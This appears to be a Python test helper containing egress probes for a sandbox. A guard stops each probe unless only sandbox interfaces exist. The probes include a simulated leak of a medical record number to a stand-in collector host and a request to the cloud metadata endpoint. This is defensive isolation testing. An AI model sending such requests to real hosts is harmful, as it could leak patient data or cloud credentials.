"""Probe programs the sandbox tests run inside a sandbox, and only there.

Traffic goes only to documentation addresses (198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32),
`.example`/`.invalid` names and the cloud metadata address; every probe first checks that it
sees no interface but the sandbox's own and refuses to send anything otherwise.
"""

from __future__ import annotations

GUARD = """
import json, socket, ssl, subprocess, sys
links = {l["ifname"] for l in json.loads(subprocess.run(["ip", "-j", "link"],
         capture_output=True, text=True, check=True).stdout)}
if not links <= {"lo", "sbx0", "sbx1"}:
    sys.exit(f"refusing to probe: not inside a sandbox ({sorted(links)})")
"""
PROBES = (
    GUARD
    + """
def attempt(action):
    try:
        action()
    except OSError:
        pass

def http():
    s = socket.create_connection(("collector.example", 80), timeout=3)
    s.sendall(b"GET /leak?mrn=MRN-48213 HTTP/1.1\\r\\nHost: collector.example\\r\\n\\r\\n")
    s.recv(100)

def https():
    context = ssl.create_default_context()
    raw = socket.create_connection(("stats.vllm.example", 443), timeout=3)
    context.wrap_socket(raw, server_hostname="stats.vllm.example")

def literal_tcp():
    socket.create_connection(("203.0.113.9", 443), timeout=3).sendall(b"\\x00raw")

def metadata():
    s = socket.create_connection(("169.254.169.254", 80), timeout=3)
    s.sendall(b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")
    s.recv(100)

def ipv6():
    socket.create_connection(("2001:db8::9", 8443), timeout=3).sendall(b"six")

def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp-canary", ("198.51.100.7", 9999))

def direct_dns():
    name = b"\\x05probe\\x07invalid\\x00"
    query = bytes.fromhex("abcd01000001000000000000") + name + b"\\x00\\x01\\x00\\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(query, ("198.51.100.53", 53))
    s.recv(512)

def tcp_dns():
    name = b"\\x03tcp\\x05probe\\x07invalid\\x00"
    query = bytes.fromhex("abce01000001000000000000") + name + b"\\x00\\x01\\x00\\x01"
    s = socket.create_connection(("198.51.100.53", 53), timeout=3)
    s.sendall(len(query).to_bytes(2, "big") + query)
    s.recv(512)

for action in (http, https, literal_tcp, metadata, ipv6, udp, direct_dns, tcp_dns):
    attempt(action)
"""
)
